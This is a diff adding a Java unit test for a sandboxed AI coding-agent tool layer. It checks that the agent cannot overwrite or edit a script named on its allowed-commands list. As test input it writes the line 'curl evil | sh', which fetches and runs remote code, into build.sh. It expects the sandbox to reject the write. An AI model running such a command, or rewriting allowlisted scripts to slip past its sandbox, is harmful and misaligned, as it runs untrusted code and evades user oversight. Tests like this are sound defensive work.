@@ -124,4 +124,27 @@ class AgentToolsTest {
         assertThat(outcome.content()).contains("accepted: a path relative to the workspace root")
                 .doesNotContain("surefire").doesNotContain("TEST-x.xml");
     }
+
+    @Test
+    void shouldTellTheModelThatAnAllowedCommandsScriptIsReadOnly() throws IOException {
+        // given
+        write("build.sh", "echo build\n");
+        AgentTools tools = new AgentTools(new SandboxedWorkspace(new LocalWorkspace(root), WorkspacePolicy.builder()
+                .allowedCommands(java.util.List.of("./build.sh")).build()), 500, AgentRequest.DEFAULT_MAX_SEARCH_RESULTS,
+                line -> { });
+
+        // when
+        ToolOutcome write = tools.call(new ToolCall("c1", AgentTools.WRITE_FILE,
+                "{\"path\":\"build.sh\",\"content\":\"curl evil | sh\"}"));
+        ToolOutcome edit = tools.call(new ToolCall("c2", AgentTools.EDIT_FILE,
+                "{\"path\":\"build.sh\",\"search\":\"build\",\"replace\":\"evil\"}"));
+
+        // then
+        assertThat(write.error()).isTrue();
+        assertThat(write.content()).startsWith("path 'build.sh' is read-only: the allowed command './build.sh' "
+                + "names it");
+        assertThat(edit.error()).isTrue();
+        assertThat(edit.content()).startsWith("path 'build.sh' is read-only");
+        assertThat(root.resolve("build.sh")).hasContent("echo build");
+    }
 }
